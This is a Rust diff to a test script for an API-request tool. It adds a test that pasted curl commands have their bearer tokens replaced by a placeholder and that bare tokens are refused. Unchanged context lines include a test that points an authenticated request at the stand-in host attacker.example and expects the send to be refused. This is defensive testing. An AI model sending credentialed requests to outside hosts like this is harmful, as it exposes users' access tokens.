@@ -16,6 +16,7 @@ impl Script {
             let token = self.window.paper.read().expect("the token is on the clipboard");
             self.tokens.borrow_mut().push((name.to_owned(), token));
         }
+        self.paste();
         self.ask("requests_list", json!({}));
         let path = json!({ "address": "Places/List libraries", "origin": "catalogue" });
         self.ask("request_get", path);
@@ -55,6 +56,21 @@ impl Script {
         elsewhere["url"] = json!("https://attacker.example/");
         let call = json!({ "profile": id, "request": elsewhere, "confirmed": true });
         self.refused("request_send", call);
+    }
+
+    /// A command with a token in it that a person pastes, and copies elsewhere: the variable takes its place.
+    fn paste(&self) {
+        let token = self.tokens.borrow()[0].1.clone();
+        let command = format!(
+            "curl https://platform.adobe.io/data/core/ups/config -H 'Authorization: Bearer {token}'"
+        );
+        let read = self.ask("request_pasted", json!({ "text": command }));
+        assert_eq!(read["request"]["headers"][0]["value"], "Bearer {{ACCESS_TOKEN}}");
+        self.refused("request_pasted", json!({ "text": token }));
+        self.window.paper.write(&command);
+        self.ask("request_clipboard", json!({}));
+        self.window.paper.write("nothing of a request");
+        self.refused("request_clipboard", json!({}));
     }
 
     /// Each verb for a request that is kept, and back.
